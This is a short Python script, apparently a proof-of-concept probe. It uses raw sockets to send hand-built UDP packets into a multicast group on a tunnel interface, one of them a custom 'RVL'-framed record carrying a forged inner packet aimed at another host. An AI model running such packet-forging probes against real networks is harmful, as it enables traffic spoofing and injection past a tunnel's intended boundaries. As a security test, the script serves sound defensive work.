import socket,struct,sys
tun='rvwtwo0'; idx=socket.if_nametoindex(tun)
m=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); m.setsockopt(0,35,struct.pack('4s4si',socket.inet_aton('233.252.0.1'),b'\0'*4,idx))
def csum(b):
    t=sum(struct.unpack('!%dH'%(len(b)//2),b))
    while t>>16: t=(t&0xffff)+(t>>16)
    return ~t&0xffff
def udp(src,sp,dst,dp,d):
    h=struct.pack('!BBHHHBBH4s4s',0x45,0,28+len(d),1,0,64,17,0,socket.inet_aton(src),socket.inet_aton(dst)); h=h[:10]+struct.pack('!H',csum(h))+h[12:]
    return h+struct.pack('!HHHH',sp,dp,8+len(d),0)+d
for name,p in (('plain header',udp('192.0.2.2',5353,'233.252.0.1',7002,b'x')),('record',b'\x40RVL'+struct.pack('<IQ',0x83000000,0)+udp('192.0.2.2',5353,'192.0.2.1',7002,b'forged through the group'))):
    s=socket.socket(socket.AF_INET,socket.SOCK_RAW,255); s.setsockopt(0,32,struct.pack('4s4si',b'\0'*4,b'\0'*4,idx)); s.setsockopt(0,34,1)
    try: print(name,"sent",s.sendto(p,('233.252.0.1',0)))
    except OSError as e: print(name,e)
